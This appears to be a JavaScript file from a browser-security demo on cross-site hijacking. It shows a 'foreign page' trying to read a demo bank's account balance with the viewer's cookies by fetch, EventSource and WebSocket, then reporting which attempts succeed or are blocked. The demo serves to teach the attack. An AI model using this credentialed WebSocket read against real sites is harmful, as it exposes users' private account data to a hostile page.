// @ts-check
/**
 * The foreign page: it asks a bank that is not its own for the balance of whoever looks at this page, in three ways.
 *
 * What to look at: nothing here is a trick. Each way is the ordinary one, and the browser adds the cookie by itself.
 * The page that holds this one in a frame is told what came of each try, so that it can draw it.
 */

const query = new URLSearchParams(location.search);
const bank = String(query.get("bank"));
const check = String(query.get("check"));

/** How long between two tries, in ms. */
const AGAIN = 1_000;

/** @typedef {{ account?: string, balance?: number, cookie: boolean }} Statement what the bank tells */

/** @param {string} way @param {"read" | "anonymous" | "blocked"} outcome @param {string} text */
function tell(way, outcome, text) {
  const row = /** @type {HTMLElement} */ (document.querySelector(`[data-way="${way}"]`));
  row.dataset.outcome = outcome;
  /** @type {HTMLElement} */ (row.querySelector("dd")).textContent = text;
  parent.postMessage({ way, outcome }, "*");
}

/** @param {string} way @param {Statement} statement */
function tellStatement(way, { account, balance, cookie }) {
  if (cookie) tell(way, "read", `${account} has ${balance?.toLocaleString("en")} €`);
  else tell(way, "anonymous", "it answers, but knows nobody: no cookie came along");
}

async function tryFetch() {
  try {
    const answer = await fetch(`${bank}demos/hijack/account`, { credentials: "include" });
    tellStatement("fetch", await answer.json());
  } catch {
    tell("fetch", "blocked", "✕ the browser hides the answer");
  }
}

function tryEventSource() {
  const source = new EventSource(`${bank}demos/hijack/sse`, { withCredentials: true });
  source.onmessage = ({ data }) => {
    tellStatement("sse", JSON.parse(data));
    source.close();
  };
  source.onerror = () => {
    tell("sse", "blocked", "✕ the browser hides the answer");
    source.close();
  };
}

function tryWebSocket() {
  const socket = new WebSocket(`${bank.replace(/^http/, "ws")}demos/hijack/ws?check=${check}`);
  socket.onmessage = ({ data }) => tellStatement("websocket", JSON.parse(data));
  socket.onclose = ({ code }) => {
    if (code === 1006) tell("websocket", "blocked", "✕ the bank refuses me");
    setTimeout(tryWebSocket, AGAIN);
  };
}

tryWebSocket();
for (const attempt of [tryFetch, tryEventSource]) {
  attempt();
  setInterval(attempt, AGAIN);
}
